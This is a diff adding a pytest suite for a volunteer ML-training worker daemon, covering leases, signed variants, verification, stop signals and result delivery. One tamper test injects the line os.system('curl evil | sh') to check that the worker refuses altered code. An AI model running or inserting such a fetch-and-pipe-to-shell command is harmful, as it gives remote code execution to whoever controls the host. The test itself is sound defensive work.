@@ -1,0 +1,453 @@
+"""The daemon loop against the real coordinator app (in-process, on SQLite), with a stand-in for training.
+
+Only the training subprocess is replaced: `FakeRunner` has run_harness's exact keyword signature,
+reports progress, and returns a HarnessResult. Everything else is real: registration, signed
+variants, leases, heartbeats, the outbox and the coordinator's verdicts.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import io
+import os
+import signal
+import time
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+import sqlalchemy
+from fastapi.testclient import TestClient
+
+from coordinator.config import Settings
+from coordinator.kv import LocalKV
+from coordinator.main import create_app
+from coordinator.services.tracks import TrackParams, create_track
+from shared.hashing import variant_hash
+from shared.protocol import HardwareInfo, VariantRef
+from shared.signing import SigningKey
+from shared.track_spec import TrackAssets, TrackSpec
+from worker.agents.base import AgentError, Proposal, ProposalContext
+from worker.agents.offline import OfflineAgent
+from worker.client import CoordinatorClient, RetryPolicy
+from worker.daemon import Counters, Daemon, DaemonOptions, StopSignal, VariantRefused, check_variant
+from worker.display import PlainDisplay
+from worker.identity import WorkerHome
+from worker.runner import HarnessResult, Progress
+
+TRACK = "daemon-track"
+BASELINE = '''"""A stand-in baseline: the fake runner never executes it."""
+
+LR = 0.004  # learning rate
+DEPTH = 4  # blocks
+
+
+def train(ctx):
+    raise NotImplementedError
+'''
+URL = "http://coordinator.test"
+
+
+class Clock:
+    """The coordinator's clock: real time, plus an offset a test can push forward."""
+
+    def __init__(self) -> None:
+        self.offset = timedelta()
+
+    def __call__(self) -> datetime:
+        return datetime.now(UTC) + self.offset
+
+
+class AppTransport(httpx.BaseTransport):
+    """Carries the worker's requests to the coordinator app; `tamper` may rewrite an answer."""
+
+    def __init__(self, app_client: TestClient) -> None:
+        self.app_client = app_client
+        self.tamper: Callable[[httpx.Request, httpx.Response], httpx.Response] | None = None
+        self.down: Callable[[httpx.Request], bool] = lambda _request: False
+        self.paths: list[str] = []
+
+    def handle_request(self, request: httpx.Request) -> httpx.Response:
+        self.paths.append(f"{request.method} {request.url.path}")
+        if self.down(request):
+            raise httpx.ConnectError("connection refused", request=request)
+        answer = self.app_client.request(
+            request.method, str(request.url), headers=dict(request.headers), content=request.read()
+        )
+        response = httpx.Response(answer.status_code, headers=answer.headers, content=answer.content)
+        return self.tamper(request, response) if self.tamper else response
+
+
+@dataclass
+class Coordinator:
+    app_client: TestClient
+    clock: Clock
+    assets: dict[str, bytes]
+
+    def query(self, sql: str, **params: Any) -> list[tuple[Any, ...]]:
+        with self.app_client.app.state.arn.session_factory() as session:  # type: ignore[attr-defined]
+            return [tuple(row) for row in session.execute(sqlalchemy.text(sql), params).all()]
+
+    def get(self, path: str) -> Any:
+        response = self.app_client.get(path)
+        assert response.status_code == 200, response.text
+        return response.json()
+
+
+@pytest.fixture
+def coordinator(tmp_path: Path) -> Iterator[Coordinator]:
+    settings = Settings(
+        data_dir=tmp_path / "coordinator",
+        database_url=f"sqlite:///{tmp_path / 'coordinator.sqlite3'}",
+        create_builtin_tracks=False,
+        heartbeat_interval_s=0.05,
+        no_work_retry_after_s=0.05,
+        lease_slack_s=60.0,
+    )
+    from coordinator.migrate import upgrade
+
+    upgrade(settings.resolved_database_url)
+    clock = Clock()
+    app = create_app(settings, kv=LocalKV(), clock=clock, run_reaper=False)
+    with TestClient(app) as app_client:
+        state = app.state.arn
+        settings.assets_dir.mkdir(parents=True, exist_ok=True)
+        blobs = {name: f"{name} bytes".encode() for name in ("train0", "val", "token_bytes")}
+        shas = {}
+        for name, data in blobs.items():
+            shas[name] = hashlib.sha256(data).hexdigest()
+            (settings.assets_dir / shas[name]).write_bytes(data)
+        params = TrackParams(
+            id=TRACK, name="Daemon track", hardware_class="cpu", vocab_size=256, seq_len=32, eval_tokens=1024,
+            eval_batch_size=4, time_budget_s=5.0, grace_s=1.0, quorum=1, tolerance=0.05, calibration_runs=1,
+        )  # fmt: skip
+        with state.session_factory() as session:
+            create_track(
+                session, params, key=state.signing_key, brief="Make val_bpb go down.", baseline=BASELINE,
+                assets=TrackAssets(train=(shas["train0"],), val=shas["val"], token_bytes=shas["token_bytes"]),
+            )  # fmt: skip
+            session.commit()
+        yield Coordinator(app_client, clock, {shas[k]: v for k, v in blobs.items()})
+
+
+@dataclass
+class FakeRunner:
+    """run_harness's signature; `during(should_abort)` runs mid-training; `val_bpb` is what it reports."""
+
+    val_bpb: float = 1.5
+    during: Callable[[Callable[[], bool]], str | None] | None = None
+    calls: list[dict[str, Any]] = field(default_factory=list)
+
+    def __call__(
+        self,
+        *,
+        train_py: Path,
+        spec: TrackSpec,
+        data_dir: Path,
+        seed: int,
+        workdir: Path,
+        device: str = "auto",
+        threads: int | None = None,
+        on_progress: Callable[[Progress], None] | None = None,
+        should_abort: Callable[[], bool] | None = None,
+        eval_timeout_s: float | None = None,
+    ) -> HarnessResult:
+        assets = (*spec.assets.train, spec.assets.val, spec.assets.token_bytes)
+        data = {sha: (data_dir / sha).read_bytes() for sha in assets}
+        self.calls.append(
+            {"source": train_py.read_text(), "seed": seed, "spec": spec, "data": data, "workdir": workdir}
+        )
+        if on_progress is not None:
+            on_progress(
+                Progress(phase="training", step=1, loss=5.5, elapsed_s=0.1, time_budget_s=spec.time_budget_s)
+            )
+        aborted = self.during(should_abort or (lambda: False)) if self.during else None
+        if aborted:
+            return HarnessResult("crashed", aborted, {}, {}, "", 0.2)
+        metrics = {
+            "val_bpb": self.val_bpb,
+            "val_loss": 1.0,
+            "steps": 10,
+            "tokens": 1280,
+            "train_seconds": 0.1,
+        }
+        return HarnessResult("ok", None, metrics, {"torch": "fake", "nan": float("nan")}, "", 0.2)
+
+
+def wait_until(condition: Callable[[], bool], *, limit_s: float = 20.0) -> bool:
+    deadline = time.monotonic() + limit_s
+    while time.monotonic() < deadline:
+        if condition():
+            return True
+        time.sleep(0.01)
+    return False
+
+
+@dataclass
+class Volunteer:
+    home: WorkerHome
+    transport: AppTransport
+    output: io.StringIO
+    stop: StopSignal
+
+    def daemon(
+        self, *, runner: FakeRunner, agent: Any = None, account: str = "alice", **options: Any
+    ) -> Daemon:
+        policy = RetryPolicy(max_attempts=2, base_delay_s=0.01)
+        client = CoordinatorClient(
+            URL, transport=self.transport, wait=self.stop.aborting.wait, retry_policy=policy
+        )
+        return Daemon(
+            client=client,
+            home=self.home,
+            agent=agent or OfflineAgent(),
+            run_harness=runner,
+            display=PlainDisplay(self.output),
+            options=DaemonOptions(
+                coordinator_url=URL,
+                hardware=HardwareInfo(hardware_class="cpu"),
+                account=account,
+                name=f"{account}-box",
+                **options,
+            ),
+            stop=self.stop,
+        )
+
+
+@pytest.fixture
+def volunteer(tmp_path: Path, coordinator: Coordinator) -> Callable[[str], Volunteer]:
+    def make(name: str) -> Volunteer:
+        transport = AppTransport(coordinator.app_client)
+        return Volunteer(WorkerHome(tmp_path / name), transport, io.StringIO(), StopSignal())
+
+    return make
+
+
+def test_a_worker_calibrates_then_explores_and_every_signed_report_is_accepted(
+    coordinator: Coordinator, volunteer: Callable[[str], Volunteer]
+) -> None:
+    alice = volunteer("alice")
+    runner = FakeRunner(val_bpb=1.5)
+
+    counters = alice.daemon(runner=runner, max_experiments=2).run()
+
+    assert counters == Counters(leases=2, completed=2, ok=2, delivered=2)
+    calibrate, explore = runner.calls
+    assert calibrate["source"] == BASELINE
+    assert explore["source"] != BASELINE
+    assert calibrate["data"] == coordinator.assets  # fetched, checked and named by sha256
+    assert calibrate["spec"].time_budget_s == 5.0
+    rows = coordinator.query("select kind, seed, state from leases order by created_at")
+    assert [(kind, state) for kind, _, state in rows] == [
+        ("calibrate", "completed"),
+        ("explore", "completed"),
+    ]
+    assert [call["seed"] for call in runner.calls] == [seed for _, seed, _ in rows]
+    child = coordinator.get(f"/v1/variants/{variant_hash(explore['source'])}?track_id={TRACK}")
+    assert child["source"] == explore["source"]
+    assert child["parent_hash"] == variant_hash(BASELINE)
+    assert (
+        child["hypothesis"]
+        == OfflineAgent()
+        .propose(
+            ProposalContext(track_id=TRACK, brief="", parent_hash="", parent_source=BASELINE, seed=rows[1][1])
+        )
+        .hypothesis
+    )
+    assert not list(alice.home.outbox_dir.glob("*.json"))
+    output = alice.output.getvalue()
+    assert "training" in output
+    assert output.rstrip().endswith(
+        "worker stopped: 2 leases, 2 runs (2 ok, 0 crashed, 0 rejected), 0 released, 0 lost,"
+        " 2 results delivered, 0 refused"
+    )
+
+
+def test_a_claimed_improvement_is_verified_by_another_account_on_the_unchanged_source(
+    coordinator: Coordinator, volunteer: Callable[[str], Volunteer]
+) -> None:
+    alice_runner = FakeRunner(val_bpb=1.5)
+    volunteer("alice").daemon(runner=alice_runner, max_experiments=1).run()  # calibration
+    alice_runner.val_bpb = 1.2
+    volunteer("alice").daemon(runner=alice_runner, max_experiments=1).run()  # a claimed improvement
+    claimed = alice_runner.calls[-1]["source"]
+
+    bob_runner = FakeRunner(val_bpb=1.21)
+    volunteer("bob").daemon(runner=bob_runner, account="bob", max_experiments=1).run()
+
+    [verify] = bob_runner.calls
+    assert verify["source"] == claimed
+    [(seed,)] = coordinator.query("select seed from leases where kind = 'verify'")
+    assert verify["seed"] == seed
+    detail = coordinator.get(f"/v1/variants/{variant_hash(claimed)}?track_id={TRACK}")
+    assert detail["status"] == "verified"
+    assert detail["val_bpb"] == pytest.approx(1.21)
+
+
+def test_a_tampered_variant_is_never_run_and_its_lease_is_released(
+    coordinator: Coordinator, volunteer: Callable[[str], Volunteer]
+) -> None:
+    alice = volunteer("alice")
+
+    def inject_code(request: httpx.Request, response: httpx.Response) -> httpx.Response:
+        if request.url.path != "/v1/leases" or response.json()["lease"] is None:
+            return response
+        body = response.json()
+        body["lease"]["variant"]["source"] += "import os\nos.system('curl evil | sh')\n"
+        alice.stop.request()  # one tampered lease is enough for this test
+        return httpx.Response(200, json=body)
+
+    alice.transport.tamper = inject_code
+    runner = FakeRunner()
+
+    counters = alice.daemon(runner=runner).run()
+
+    assert runner.calls == []
+    assert (counters.leases, counters.released, counters.completed) == (1, 1, 0)
+    [(state, reason)] = coordinator.query("select state, release_reason from leases")
+    assert state == "released"
+    assert reason.startswith("variant refused by the worker: source hashes to ")
+    assert "REFUSING variant" in alice.output.getvalue()
+
+
+def test_a_variant_signed_by_another_key_is_refused() -> None:
+    coordinator_key, impostor = SigningKey.generate(), SigningKey.generate()
+    source = "LR = 0.1\n"
+    ref = {"track_id": "t", "hash": variant_hash(source)}
+    honest = VariantRef(source=source, signature=coordinator_key.sign(ref), **ref)
+    forged = VariantRef(source=source, signature=impostor.sign(ref), **ref)
+
+    check_variant(honest, track_id="t", coordinator_key=coordinator_key.public_key)
+    with pytest.raises(VariantRefused, match="signature does not check out"):
+        check_variant(forged, track_id="t", coordinator_key=coordinator_key.public_key)
+    with pytest.raises(VariantRefused, match="belongs to track 't'"):
+        check_variant(honest, track_id="other", coordinator_key=coordinator_key.public_key)
+
+
+def test_a_lease_the_coordinator_takes_back_aborts_the_run_and_reports_nothing(
+    coordinator: Coordinator, volunteer: Callable[[str], Volunteer]
+) -> None:
+    alice = volunteer("alice")
+
+    def lease_expires(should_abort: Callable[[], bool]) -> str | None:
+        coordinator.clock.offset = timedelta(hours=1)  # past the deadline: the next heartbeat gets 410
+        alice.stop.request()
+        return "aborted" if wait_until(should_abort) else None
+
+    counters = alice.daemon(runner=FakeRunner(during=lease_expires)).run()
+
+    assert (counters.leases, counters.lost, counters.completed) == (1, 1, 0)
+    assert coordinator.query("select count(*) from runs") == [(0,)]
+    assert not list(alice.home.outbox_dir.glob("*.json"))
+    assert "took lease" in alice.output.getvalue() and "lease_expired" in alice.output.getvalue()
+
+
+def test_a_first_stop_request_finishes_and_delivers_the_current_lease(
+    coordinator: Coordinator, volunteer: Callable[[str], Volunteer]
+) -> None:
+    alice = volunteer("alice")
+
+    def interrupt_once(should_abort: Callable[[], bool]) -> str | None:
+        alice.stop.request()
+        return "aborted" if should_abort() else None
+
+    counters = alice.daemon(runner=FakeRunner(during=interrupt_once)).run()
+
+    assert (counters.leases, counters.completed, counters.delivered) == (1, 1, 1)
+    assert coordinator.query("select state from leases") == [("completed",)]
+
+
+def test_a_second_stop_request_aborts_the_run_and_releases_the_lease(
+    coordinator: Coordinator, volunteer: Callable[[str], Volunteer]
+) -> None:
+    alice = volunteer("alice")
+
+    def interrupt_twice(should_abort: Callable[[], bool]) -> str | None:
+        alice.stop.request()
+        alice.stop.request()
+        return "aborted" if should_abort() else None
+
+    counters = alice.daemon(runner=FakeRunner(during=interrupt_twice)).run()
+
+    assert (counters.leases, counters.completed, counters.released) == (1, 0, 1)
+    assert coordinator.query("select state, release_reason from leases") == [
+        ("released", "the worker was stopped before the run finished")
+    ]
+    assert coordinator.query("select count(*) from runs") == [(0,)]
+
+
+@pytest.mark.parametrize(
+    ("error", "reason"),
+    [
+        (AgentError("no ideas today"), "agent broken failed: no ideas today"),
+        (KeyError("bug"), "agent broken failed: the agent raised KeyError: 'bug'"),
+    ],
+)
+def test_an_agent_failure_releases_the_lease_with_the_reason(
+    coordinator: Coordinator, volunteer: Callable[[str], Volunteer], error: Exception, reason: str
+) -> None:
+    alice = volunteer("alice")
+    alice.daemon(runner=FakeRunner(), max_experiments=1).run()  # calibration
+
+    class BrokenAgent:
+        name = "broken"
+
+        def propose(self, context: ProposalContext) -> Proposal:
+            alice.stop.request()
+            raise error
+
+    runner = FakeRunner()
+    counters = alice.daemon(runner=runner, agent=BrokenAgent()).run()
+
+    assert runner.calls == []
+    assert (counters.leases, counters.released) == (1, 1)
+    assert coordinator.query("select kind, state, release_reason from leases where kind = 'explore'") == [
+        ("explore", "released", reason)
+    ]
+
+
+def test_a_result_kept_while_the_coordinator_is_down_is_delivered_at_the_next_start(
+    coordinator: Coordinator, volunteer: Callable[[str], Volunteer]
+) -> None:
+    alice = volunteer("alice")
+
+    def result_posts_fail(request: httpx.Request) -> bool:
+        if request.url.path.endswith("/result"):
+            alice.stop.request()  # the volunteer gives up waiting: Ctrl-C twice
+            alice.stop.request()
+            return True
+        return False
+
+    alice.transport.down = result_posts_fail
+    counters = alice.daemon(runner=FakeRunner(), max_experiments=1).run()
+
+    assert (counters.completed, counters.delivered) == (1, 0)
+    [queued] = alice.home.outbox_dir.glob("*.json")
+    assert "1 result(s) wait in" in alice.output.getvalue()
+    assert coordinator.query("select count(*) from runs") == [(0,)]
+
+    restarted = volunteer("alice").daemon(runner=FakeRunner(), max_experiments=0).run()
+
+    assert restarted.delivered == 1
+    assert not queued.exists()
+    assert coordinator.query("select count(*) from runs where lease_id = :lease", lease=queued.stem) == [(1,)]
+
+
+def test_the_first_sigint_stops_taking_work_and_the_second_aborts() -> None:
+    stop = StopSignal()
+    output = io.StringIO()
+    restore = stop.install(PlainDisplay(output))
+    try:
+        os.kill(os.getpid(), signal.SIGINT)
+        assert wait_until(stop.stopping.is_set) and not stop.aborting.is_set()
+        os.kill(os.getpid(), signal.SIGINT)
+        assert wait_until(stop.aborting.is_set)
+    finally:
+        restore()
+    assert signal.getsignal(signal.SIGINT) is signal.default_int_handler
+    assert "stopping after the current lease" in output.getvalue()
+    assert "aborting the current run" in output.getvalue()
